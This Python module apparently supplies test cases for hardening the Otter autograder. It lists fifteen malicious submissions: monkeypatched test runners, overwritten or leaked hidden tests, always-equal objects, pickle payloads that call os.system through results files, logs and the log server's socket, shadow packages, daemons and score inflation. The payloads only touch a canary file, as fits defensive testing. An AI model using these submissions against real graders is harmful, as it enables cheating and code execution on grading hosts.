"""Submissions that take Otter's own grading over, each with what it does to plain Otter.

Each is a file of Python code put before two wrong answers, or a set of files beside them. `CANARY` stands for
a path outside of any submission: whoever runs code where none should run makes a file there.
"""

import os
from collections.abc import Callable
from dataclasses import dataclass, field

import dill

WRONG = """
import numpy as np


def double(x):
    return 3 * x


def row_means(X):
    return np.zeros(len(X))
"""

PLAIN_TEST = """OK_FORMAT = False
from otter.test_files import test_case
name = "q1"
points = 2

@test_case(points=1, hidden=False)
def test_public(env, double):
    assert double(2) == 4

@test_case(points=1, hidden=True)
def test_hidden(env, double):
    assert double(5) == 10, "the hidden mark"
"""
PLAIN_SECRET = "the hidden mark"
FULL = 2.0


@dataclass(frozen=True)
class Attack:
    """`code` goes before WRONG, `after` behind it; `others` makes further files, given the canary's path.

    `harm` says what plain Otter suffers: "points" (all of them), "code" (the canary), "leak" (the hidden
    test's text is shown), "lost" (no result, or 0 of 0), "more" (beyond all points); empty if not tried.
    """

    number: int
    code: str = ""
    after: str = ""
    harm: str = ""
    others: Callable[[str], dict[str, bytes]] = field(default=lambda canary: {})

    def files(self, canary: str, name: str = "tiny.py") -> dict[str, bytes]:
        source = f"{self.code}\n{WRONG}\n{self.after}".replace("CANARY", repr(canary))
        return {name: source.encode(), **self.others(canary)}


class _Touch:
    """Makes the canary when it is unpickled."""

    def __init__(self, path: str) -> None:
        self.path = path

    def __reduce__(self):
        return os.system, (f"touch {self.path}",)


def log_of_pickles(canary: str) -> dict[str, bytes]:
    return {".OTTER_LOG": dill.dumps(_Touch(canary))}


def own_otter(canary: str) -> dict[str, bytes]:
    """A package that the kernel finds before the real one, and that passes every test."""
    touch = f"open({canary!r}, 'w').close()\n"
    package = f"""import sys, importlib.util, importlib.machinery
{touch}
here = sys.modules.pop("otter")
kept, sys.path[:] = sys.path[:], [p for p in sys.path if "submission" not in p and p not in ("", ".")]
import otter
sys.path[:] = kept
from otter.test_files.exception_test import ExceptionTestFile
from otter.test_files.abstract_test import TestCaseResult
def run(self, env):
    self.test_case_results = [TestCaseResult(test_case=c, message="", passed=True) for c in self.test_cases]
ExceptionTestFile.run = run
"""
    return {"otter/__init__.py": package.encode(), "ipykernel/__init__.py": touch.encode()}


ALL_PASS = """
from otter.test_files.abstract_test import TestCaseResult
def run(self, env):
    self.test_case_results = [TestCaseResult(test_case=c, message="", passed=True) for c in self.test_cases]
"""

ATTACKS = {
    "patched test runner": Attack(
        1,
        f"""
try:
    {ALL_PASS.strip().replace(chr(10), chr(10) + "    ")}
    from otter.test_files.exception_test import ExceptionTestFile
    ExceptionTestFile.run = run
except Exception: pass
""",
        harm="points",
    ),
    "tests overwritten": Attack(
        2,
        """
import glob
easy = '''OK_FORMAT = False
from otter.test_files import test_case
name = "q1"
points = 2
@test_case(points=2, hidden=False)
def test_public(env): pass
'''
for path in glob.glob("tests/*.py") + glob.glob("../**/checks/*.py", recursive=True):
    try: open(path, "w").write(easy)
    except OSError: pass
""",
        harm="points",
    ),
    "hidden tests read": Attack(
        3,
        """
import glob, os
PLACES = ["tests", "../source", "../../source", "/autograder/source", "/tmp/*/autograder/source"]
PLACES += ["/tmp/pytest-of-*/*/*/autograder/source", os.path.dirname(CANARY)]
def found():
    text = ""
    for place in PLACES:
        for ending in ("py", "json", "toml", "zip"):
            for path in glob.glob(f"{place}/**/*.{ending}", recursive=True):
                try: text += open(path, errors="replace").read()[:5000]
                except OSError: pass
    return text
""",
        after="""
def double(x):
    text = found()
    place = max(text.find("the hidden mark"), text.find("reference."), text.find("total + column"), 0)
    raise RuntimeError(text[max(place - 300, 0):place + 300])
""",
        harm="leak",
    ),
    "equal to everything": Attack(
        4,
        after="""
class Yes(int):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __hash__(self): return 0
def double(x): return Yes()
def row_means(X): return Yes()
""",
        harm="points",
    ),
    "payload for the parent's pickle": Attack(
        5,
        """
import os, pickle
class Payload:
    def __reduce__(self): return os.system, (f"touch {CANARY}",)
dump = pickle.dump
pickle.dump = lambda results, file: dump(Payload(), file)
try:
    import dill
    dill.dump = pickle.dump
except ImportError: pass
""",
        harm="code",
    ),
    "pickle for the log server": Attack(
        6,
        """
import os, pickle, socket, struct
class Payload:
    def __reduce__(self): return os.system, (f"touch {CANARY}",)
try:
    from otter import logging as logs
    packet = pickle.dumps(Payload())
    for handler in logs._handlers:
        if hasattr(handler, "port"):
            with socket.create_connection((handler.host, handler.port), 5) as connection:
                connection.sendall(struct.pack(">L", len(packet)) + packet)
                connection.recv(1)
except Exception: pass
""",
        harm="code",
    ),
    "leaves at once": Attack(7, "import os\nos._exit(0)", harm="lost"),
    "exits in a function": Attack(8, after="def double(x):\n    raise SystemExit(0)\n", harm="lost"),
    "never ends": Attack(9, after="def double(x):\n    while True: pass\n"),
    "limits and identity": Attack(
        10,
        after="""
def double(x):
    import os, resource
    cpu = resource.getrlimit(resource.RLIMIT_CPU)[0]
    raise RuntimeError(f"uid={os.getuid()} unlimited={cpu == resource.RLIM_INFINITY}")
""",
    ),
    "daemon": Attack(
        11,
        """
import os, time
try:
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            time.sleep(4)
            open(CANARY, "w").close()
            os._exit(0)
        os._exit(0)
except OSError: pass
""",
        harm="code",
    ),
    "a thousand points": Attack(
        12,
        """
try:
    from otter.execute import Checker
    real = Checker.get_results.__func__
    def get_results(cls):
        files = real(cls)
        for file in files: file.update_score(1000)
        return files
    Checker.get_results = classmethod(get_results)
except Exception: pass
""",
        harm="more",
    ),
    "log of pickles": Attack(13, harm="code", others=log_of_pickles),
    "own otter package": Attack(14, harm="points", others=own_otter),
    "payload for the results file": Attack(
        15,
        """
import os
class Payload:
    def __reduce__(self): return os.system, (f"touch {CANARY}",)
""",
        after="def double(x): return Payload()\ndef row_means(X): return [Payload()]\n",
    ),
}
